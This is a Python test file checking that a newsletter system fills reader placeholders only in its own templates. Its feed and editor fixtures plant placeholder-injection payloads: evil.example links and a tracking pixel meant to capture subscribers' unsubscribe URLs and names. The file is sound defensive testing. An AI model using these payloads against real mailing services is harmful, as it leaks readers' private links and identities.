"""Only the templates make reader placeholders. A feed (title, link, summary, image, author,
section) or an editor's subject and intro that spell `[%unsubscribe_url%]` get no reader's
link or name: not in our own fill (the outbox), not in SendGrid's substitutions, which replace
a key anywhere in the message."""

from __future__ import annotations

import datetime as dt
import email
import email.policy
import re
from html import unescape
from pathlib import Path

import lxml.html
from sqlalchemy import update

from digest.delivery.backends import get_sender
from digest.editions.approve import approve_edition
from digest.editions.edit import update_text
from digest.editions.placeholders import READER_FIELDS
from digest.store.db import unit_of_work
from digest.store.models import Article, Subscriber
from digest.subscribers.lifecycle import add_subscriber
from tests.factories import draft_edition, poll_url, send_now
from tests.servers import FeedServer, Route

PLANTED = "[%unsubscribe_url%]"
SUMMARY = (
    "<p>Click [%unsubscribe_url%] or [%unsubscribe_url:html%], dear [%name:html%] [%name%].</p>"
    '<p><a href="https://evil.example/a?u=[%unsubscribe_url:html%]&p=[%preferences_url%]">win</a>'
    '<img src="https://evil.example/pixel.gif?n=[%name:html%]" alt="[%name%]"></p>'
)
READER_NAME = "Zarina Tokhtarova"


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def planting_rss(base: str) -> bytes:
    now = email.utils.format_datetime(dt.datetime.now(dt.UTC) - dt.timedelta(hours=1))
    item = (f"<item><title>News for [%name%] at [%unsubscribe_url:html%]</title>"
            f"<link>https://evil.example/steal?u=[%unsubscribe_url%]&amp;n=[%name:html%]</link>"
            f"<guid>planted</guid><author>x@example.org ([%preferences_url%])</author>"
            f"<category>Reports [%unsubscribe_url:html%]</category>"
            f"<description>{_xml(SUMMARY)}</description><pubDate>{now}</pubDate></item>")
    return ('<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title>'
            f"<link>{base}/</link><description>d</description>{item}</channel></rss>").encode()


def _planted_edition() -> int:
    """An approved edition from a planting feed, an editor's planted subject and intro, and an
    article row stored before links were encoded (its URL still holds a raw marker)."""
    with FeedServer() as server:
        server.routes["/feed"] = Route(200, planting_rss(server.base), {"Content-Type": "application/rss+xml"})
        assert poll_url(server.url("/feed")).new == 1
    with unit_of_work() as session:
        session.execute(update(Article).values(url="https://evil.example/old?u=[%unsubscribe_url%]"))
        add_subscriber(session, "reader@example.org", name=READER_NAME, confirmed=True)
    edition_id = draft_edition()
    with unit_of_work() as session:
        update_text(session, edition_id, subject="For [%name%]: [%unsubscribe_url%]",
                    intro="Hello [%name%], your link: [%unsubscribe_url%] and [%preferences_url:html%].")
        approve_edition(session, edition_id, "publisher@example.org")
    return edition_id


def _assert_only_the_templates_placed_reader_values(subject: str, html: str, text: str, values: dict) -> None:
    unsubscribe, preferences = values["unsubscribe_url"], values["preferences_url"]
    # The template's own places: the footer links, "Dear <name>," in each part; the preference
    # link also starts each "Follow <topic>" link (the planted tag and author are topics).
    follow_links = re.compile(re.escape(preferences) + r"&(amp;)?follow=\d+")
    assert len(follow_links.findall(html)) == len(follow_links.findall(text)) == 2
    assert html.count(unsubscribe) == 1 and html.count(preferences) == 1 + 2, "HTML part"
    assert text.count(unsubscribe) == 1 and text.count(preferences) == 1 + 2, "text part"
    assert html.count(READER_NAME) == 1 and text.count(READER_NAME) == 1
    assert READER_NAME not in subject and unsubscribe not in subject
    tree = lxml.html.fromstring(html)
    for element, attribute, link, _ in tree.iterlinks():
        if "evil.example" in link:
            assert not any(value in unescape(link) for value in values.values()), link
            assert "[%" not in link
    [footer_link] = [a for a in tree.iter("a") if a.get("href") == unsubscribe]
    assert footer_link.text_content() == "Unsubscribe"
    # What the feed wrote is shown as written (an invisible word joiner keeps it from matching).
    shown_html = tree.text_content().replace("\u2060", "")
    assert f"Click {PLANTED}" in shown_html and f"your link: {PLANTED}" in shown_html
    assert f"Click {PLANTED}" in text.replace("\u2060", "")
    assert f"For [%name%]: {PLANTED}" == subject.replace("\u2060", "")
    for field in READER_FIELDS:
        assert f"[%{field}%]" not in html + text + subject and f"[%{field}:html%]" not in html + text + subject


def test_the_outbox_fills_only_the_templates_placeholders(settings):
    send_now(_planted_edition(), get_sender())
    [eml] = list(Path(settings.OUTBOX_DIR).rglob("*.eml"))
    message = email.message_from_bytes(eml.read_bytes(), policy=email.policy.default)
    unsubscribe = message["List-Unsubscribe"].split(",")[0].strip(" <>")
    html = message.get_body(("html",)).get_content()
    preferences = lxml.html.fromstring(html).xpath("//a[contains(., 'Choose sections')]/@href")[0]
    values = {"name": READER_NAME, "unsubscribe_url": unsubscribe, "preferences_url": preferences}
    _assert_only_the_templates_placed_reader_values(
        str(message["Subject"]), html, message.get_body(("plain",)).get_content(), values)


def _as_sendgrid_fills(body: dict, personalization: dict) -> tuple[str, str, str]:
    """What SendGrid makes of a personalization: every key replaced wherever it occurs, in the
    subject and in each content part."""
    def filled(value: str) -> str:
        for key, replacement in personalization["substitutions"].items():
            value = value.replace(key, replacement)
        return value

    parts = {c["type"]: filled(c["value"]) for c in body["content"]}
    return filled(body["subject"]), parts["text/html"], parts["text/plain"]


def test_sendgrid_substitutions_fill_only_the_templates_placeholders(standin):
    send_now(_planted_edition(), get_sender())
    [body] = standin.requests
    [personalization] = body["personalizations"]
    # An alert's link only in alerts; an empty "For you" (this reader follows nothing) places nothing.
    values = {field: personalization["substitutions"][f"[%{field}%]"] for field in READER_FIELDS
              if personalization["substitutions"].get(f"[%{field}%]")}
    assert values["name"] == READER_NAME
    subject, html, text = _as_sendgrid_fills(body, personalization)
    _assert_only_the_templates_placed_reader_values(subject, html, text, values)
    with unit_of_work() as session:
        assert session.query(Subscriber).count() == 1
